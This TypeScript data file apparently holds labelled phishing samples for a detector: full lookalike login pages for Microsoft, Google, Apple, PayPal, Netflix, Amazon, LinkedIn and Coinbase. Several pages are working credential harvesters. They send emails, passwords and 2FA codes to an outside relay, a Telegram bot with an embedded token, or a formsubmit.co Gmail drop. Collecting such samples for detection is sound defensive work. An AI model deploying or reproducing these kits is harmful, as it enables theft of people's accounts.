import type { Entry } from '../entry.js';

/** Credential-harvest kits, part 1: Microsoft 365, Google, Apple, PayPal, Netflix, Amazon, Meta, LinkedIn. */
export const entries: Entry[] = [
  {
    id: 'kit-m365-sharepoint-doc',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://sharepoint-docs-view.azurewebsites-cdn.top/auth/index.php?client_id=4765445b',
    body: `<!DOCTYPE html>
<html dir="ltr" lang="en"><head><meta charset="utf-8"><title>Sign in to your account</title>
<meta name="robots" content="none"><link rel="shortcut icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
<style>body{background:#f2f2f2;font-family:"Segoe UI",sans-serif}.box{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:12px 0}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}</style></head>
<body><div class="box"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft" width="108">
<div id="step1"><div style="font-size:24px;font-weight:600;margin:16px 0">Sign in</div>
<p>to continue to SharePoint &mdash; <b>Q3_Remittance_Advice.pdf</b> was shared with you</p>
<input type="email" id="i0116" name="loginfmt" placeholder="Email, phone, or Skype" autocomplete="off">
<a href="#">Can't access your account?</a><br><button id="idSIButton9" type="button" onclick="nextStep()">Next</button></div>
<div id="step2" style="display:none"><div id="displayName"></div><div style="font-size:24px;font-weight:600">Enter password</div>
<input type="password" id="i0118" name="passwd" placeholder="Password"><div id="err" style="color:#e81123"></div>
<a href="#">Forgot my password</a><button type="button" onclick="sendIt()">Sign in</button></div></div>
<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
<script>
var attempts = 0;
function nextStep(){ var e=$('#i0116').val(); if(!/^\\S+@\\S+\\.\\S+$/.test(e)) return; $('#displayName').text(e); $('#step1').hide(); $('#step2').show(); }
function sendIt(){
  attempts++;
  $.ajax({ url: 'https://office-relay.azurewebsites-cdn.top/next.php', type: 'POST', data: { email: $('#i0116').val(), password: $('#i0118').val(), attempt: attempts },
    success: function(){ if (attempts < 2) { $('#err').text('Your account or password is incorrect. If you don\\'t remember your password, reset it now.'); $('#i0118').val(''); } else { window.location.replace('https://www.office.com/'); } } });
}
</script></body></html>`,
  },
  {
    id: 'kit-m365-telegram-exfil',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://secure-mail-verify.online/owa/?email=finance%40contoso-ltd.com',
    body: `<!doctype html><html><head><meta charset="utf-8"><title>Outlook</title>
<meta name="viewport" content="width=device-width,initial-scale=1">
<style>*{box-sizing:border-box}body{margin:0;background:url(bg.jpg) center/cover #dfe7ef;font:15px Segoe UI,Tahoma}#card{max-width:420px;margin:10vh auto;background:#fff;padding:40px}h2{font-weight:600}.in{width:100%;padding:8px;border:1px solid #8a8886;margin:8px 0}.btn{background:#0078d4;color:#fff;border:none;width:100%;padding:10px}</style></head>
<body><div id="card"><svg width="108" height="24" viewBox="0 0 108 24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#737373">Microsoft</text></svg>
<h2>Verify your identity</h2><p>Because you're accessing sensitive info, you need to verify your password.</p>
<form id="f" autocomplete="off"><input class="in" id="em" type="email" readonly><input class="in" id="pw" type="password" placeholder="Password" required>
<label><input type="checkbox" checked> Keep me signed in</label><br><br><button class="btn">Sign in</button></form>
<p style="font-size:12px;color:#666">&copy; 2026 Microsoft &nbsp; Terms of use &nbsp; Privacy &amp; cookies</p></div>
<script>
const q = new URLSearchParams(location.search); document.getElementById('em').value = q.get('email') || '';
const TOKEN = '7312876640:AAH2kq9VvRr1pOe0d-7fWm1Zt3m0bKx9xYc'; const CHAT = '-1002215548811';
document.getElementById('f').addEventListener('submit', async (ev) => {
  ev.preventDefault();
  const ip = await fetch('https://api.ipify.org?format=json').then(r => r.json()).catch(() => ({ ip: '?' }));
  const text = '== O365 ==\\nUser: ' + em.value + '\\nPass: ' + pw.value + '\\nIP: ' + ip.ip + '\\nUA: ' + navigator.userAgent;
  await fetch('https://api.telegram.org/bot' + TOKEN + '/sendMessage', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: CHAT, text }) });
  location.href = 'https://outlook.office.com/mail/';
});
</script></body></html>`,
  },
  {
    id: 'kit-google-drive-shared',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://drive-files-share.web-app-hosting.net/d/1xY9Pq/view',
    body: `<html><head><title>Google Drive - You have received 3 files</title><meta charset="utf-8">
<style>body{margin:0;font-family:arial}.top{background:#f1f3f4;padding:12px 20px;font-size:20px;color:#5f6368}.files{display:flex;gap:20px;padding:40px;filter:blur(3px)}.file{width:180px;height:220px;background:#fff;border:1px solid #ddd}.modal{position:fixed;top:20%;left:50%;transform:translateX(-50%);background:#fff;padding:30px;width:360px;box-shadow:0 4px 30px #0006}</style></head>
<body><div class="top"><img src="img/drive.png" width="40" alt="Drive"> Drive</div>
<div class="files"><div class="file">Invoice_8837.xlsx</div><div class="file">Payment_Schedule.pdf</div><div class="file">Contract_Signed.docx</div></div>
<div class="modal"><h3>Sign in to view shared documents</h3><p>Select your email provider to continue</p>
<form action="https://formsubmit.co/ajax/dr0pb0x.results2026@gmail.com" method="POST">
<select name="provider"><option>Gmail</option><option>Outlook</option><option>Yahoo</option><option>AOL</option><option>Other Mail</option></select><br><br>
<input name="email" type="email" placeholder="Email address" style="width:100%"><br><br>
<input name="password" type="password" placeholder="Email password" style="width:100%"><br><br>
<input type="hidden" name="_next" value="https://drive.google.com/"><input type="hidden" name="_captcha" value="false">
<button style="background:#1a73e8;color:#fff;border:0;padding:10px;width:100%">View Documents</button></form></div></body></html>`,
  },
  {
    id: 'kit-apple-id-locked-fr',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://appleid.apple.com.verification-compte-secure.fr/fr/',
    body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Identifiant Apple</title>
<style>body{font-family:-apple-system,"SF Pro Text",Helvetica;color:#1d1d1f;text-align:center}.ac{width:480px;margin:80px auto}.inp{width:100%;padding:14px;border:1px solid #d2d2d7;border-radius:12px;font-size:17px;margin:6px 0}.go{margin-top:16px;background:#0071e3;color:#fff;border:0;border-radius:12px;padding:12px 40px}</style></head>
<body><div class="ac"><svg width="40" height="48" viewBox="0 0 17 20" aria-label="Apple"><path d="M14 10c0-2 2-3 2-3-1-2-3-2-4-2-1.5 0-2.5 1-3.2 1S7 5 5.800 5C4 5 2 6.500 2 10c0 3 2.500 8 4.500 8 1 0 1.500-.7 2.800-.7s1.700.7 2.800.7c2 0 3.600-4 3.600-4S14 13 14 10zM11 3.500C11.700 2.700 12 1.600 12 .5c-1 0-2 .7-2.800 1.500C8.600 2.700 8.200 3.700 8.300 4.800 9.400 4.800 10.400 4.200 11 3.500z"/></svg>
<h1>Votre identifiant Apple a été verrouillé</h1><p>Pour des raisons de sécurité, votre compte a été verrouillé. Veuillez confirmer vos informations pour le déverrouiller.</p>
<form method="post" action="../secure/step2.php"><input class="inp" name="appleid" placeholder="Identifiant Apple" type="email">
<input class="inp" name="pwd" placeholder="Mot de passe" type="password">
<button class="go">Continuer</button></form>
<p><a href="#">Identifiant Apple ou mot de passe oublié ?</a></p></div></body></html>`,
  },
  {
    id: 'kit-paypal-limited-de',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://konto-sicherheit-pp.de-service.club/myaccount/signin/',
    body: `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Einloggen bei Ihrem PayPal-Konto</title>
<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/pp196.png">
<style>body{font-family:"PayPal Sans",Helvetica,Arial;background:#fff}.c{width:460px;margin:40px auto;border:1px solid #eaeced;border-radius:12px;padding:30px 50px}.t{width:100%;height:60px;border:1px solid #9da3a6;border-radius:4px;padding:0 12px;margin:8px 0}.b{width:100%;height:48px;border-radius:24px;border:0;background:#0070ba;color:#fff;font-weight:bold}</style></head>
<body><div class="c"><p style="text-align:center"><img src="https://www.paypalobjects.com/images/shared/momgram@2x.png" alt="PayPal" height="40"></p>
<div style="background:#fff4e5;padding:10px;border-radius:6px">Ihr Konto wurde vorübergehend eingeschränkt. Bitte melden Sie sich an, um die Einschränkung aufzuheben.</div>
<form action="login.php?session=8f2c9a" method="post"><input class="t" name="login_email" type="email" placeholder="E-Mail-Adresse oder Handynummer">
<input class="t" name="login_password" type="password" placeholder="Passwort"><p><a href="#">Passwort vergessen?</a></p>
<button class="b">Einloggen</button></form><hr><button class="b" style="background:#fff;color:#0070ba;border:2px solid #0070ba">Neu anmelden</button>
<p style="font-size:11px;text-align:center">Kontakt Datenschutz AGB Weltweit</p></div></body></html>`,
  },
  {
    id: 'kit-netflix-login-plain',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://www.nflx-members-login.com/login',
    body: `<!DOCTYPE html><html><head><title>Netflix</title><meta charset="utf-8"><link rel="stylesheet" href="assets/css/nf.css"></head>
<body class="login-page"><header><a href="/"><img src="assets/img/netflix-logo.svg" alt="Netflix"></a></header>
<main><div class="login-body"><h1>Sign In</h1>
<form class="login-form" method="post" action="assets/php/login.php">
<div class="nfInput"><input type="text" name="userLoginId" id="id_userLoginId" placeholder="Email or phone number"></div>
<div class="nfInput"><input type="password" name="password" id="id_password" placeholder="Password"></div>
<button class="btn login-button" type="submit">Sign In</button>
<div class="login-remember-me"><input type="checkbox" id="bxid_rememberMe_true" checked><label for="bxid_rememberMe_true">Remember me</label> <a href="#">Need help?</a></div>
</form><p>New to Netflix? <a href="#">Sign up now</a>.</p></div></main>
<footer><p>Questions? Call 1-844-505-2993</p></footer></body></html>`,
  },
  {
    id: 'kit-amazon-suspended',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://amazon.account-update-center.xyz/ap/signin?openid.pape.max_auth_age=0',
    body: `<!doctype html><html class="a-no-js"><head><meta charset="utf-8"><title>Amazon Sign-In</title>
<style>body{font-family:Arial,sans-serif;font-size:13px}.a-box{width:350px;margin:14px auto;border:1px #ddd solid;border-radius:8px;padding:20px 26px}.a-input-text{width:100%;height:31px;border:1px solid #a6a6a6;border-radius:3px;margin:4px 0 12px}.a-button{width:100%;background:#f0c14b;border:1px solid #a88734;border-radius:3px;padding:8px}.alert{border:1px solid #c40000;border-radius:4px;padding:12px;margin-bottom:10px;color:#c40000}</style></head>
<body><div style="text-align:center"><i class="a-icon a-icon-logo" role="img" aria-label="Amazon">amazon</i></div>
<div class="a-box"><div class="alert">Your account has been locked due to unusual billing activity. Sign in to verify your information.</div>
<h1>Sign in</h1><form name="signIn" method="post" action="/ap/verify.php">
<label for="ap_email">Email or mobile phone number</label><input type="email" class="a-input-text" id="ap_email" name="email">
<label for="ap_password">Password</label><input type="password" class="a-input-text" id="ap_password" name="password">
<input type="submit" class="a-button" value="Sign in"></form>
<p>By continuing, you agree to Amazon's Conditions of Use and Privacy Notice.</p></div></body></html>`,
  },
  {
    id: 'kit-amazon-prime-jp',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://amaz0n-co-jp.prime-kaiin.top/ap/signin',
    body: `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazonサインイン</title>
<style>body{font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif}.box{width:350px;margin:20px auto;border:1px solid #ddd;padding:20px}input{width:100%;margin:4px 0 14px;padding:6px}button{width:100%;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:8px}</style></head>
<body><p style="text-align:center;font-size:28px;font-weight:bold">amazon<span style="color:#ff9900">.co.jp</span></p>
<div class="box"><h1>ログイン</h1><p>お客様のAmazonプライム会員資格の更新ができませんでした。お支払い情報を更新してください。</p>
<form method="post" action="signin_check.php"><label>Eメールまたは携帯電話番号</label><input name="email" type="text">
<label>パスワード</label><input name="password" type="password"><button type="submit">ログイン</button></form>
<p style="font-size:12px">続行することで、Amazonの利用規約およびプライバシー規約に同意するものとみなされます。</p></div></body></html>`,
  },
  {
    id: 'kit-linkedin-job-offer',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://linkedin-recruiter-jobs.net/jobs/view/3877201/apply',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>LinkedIn Login, Sign in | LinkedIn</title>
<style>body{font-family:-apple-system,system-ui;background:#f3f2ef}.lk{color:#0a66c2;font-weight:700;font-size:30px;padding:20px 60px}.m{width:352px;margin:0 auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 4px 12px #0002}input{width:100%;height:52px;border:1px solid #666;border-radius:4px;padding:0 12px;margin:8px 0}button{width:100%;height:52px;background:#0a66c2;color:#fff;border:0;border-radius:26px;font-weight:600}</style></head>
<body><div class="lk">Linked<span style="background:#0a66c2;color:#fff;border-radius:3px;padding:0 3px">in</span></div>
<div class="m"><h1>Sign in</h1><p>Sign in to view your interview invitation from <b>Hays Recruitment</b></p>
<form action="https://linkedin-recruiter-jobs.net/checkpoint/lg/login-submit" method="post">
<input name="session_key" placeholder="Email or Phone"><input name="session_password" type="password" placeholder="Password">
<a href="#">Forgot password?</a><button>Sign in</button></form></div></body></html>`,
  },
  {
    id: 'kit-coinbase-2fa',
    label: 'phishing',
    kind: 'credential-kit',
    url: 'https://coinbase.secure-login-review.com/signin',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Coinbase - Sign In</title>
<style>body{font-family:CoinbaseSans,Helvetica;background:#fff}.w{width:448px;margin:60px auto;border:1px solid #dee1e7;border-radius:16px;padding:32px}input{width:100%;padding:14px;border:1px solid #dee1e7;border-radius:8px;margin:8px 0}button{width:100%;background:#0052ff;color:#fff;border:0;border-radius:56px;padding:16px;font-weight:600}</style></head>
<body><div class="w"><svg width="32" height="32"><circle cx="16" cy="16" r="16" fill="#0052ff"/></svg><h1>Sign in to Coinbase</h1>
<form action="https://coinbase.secure-login-review.com/api/v1/session" method="post"><input name="email" type="email" placeholder="Your email address"><input name="password" type="password" placeholder="Password">
<input name="totp" inputmode="numeric" placeholder="2-step verification code" maxlength="6"><button>Continue</button></form>
<p style="font-size:12px;color:#5b616e">Not your device? Use a private window. See our Privacy Policy for more info.</p></div></body></html>`,
  },];
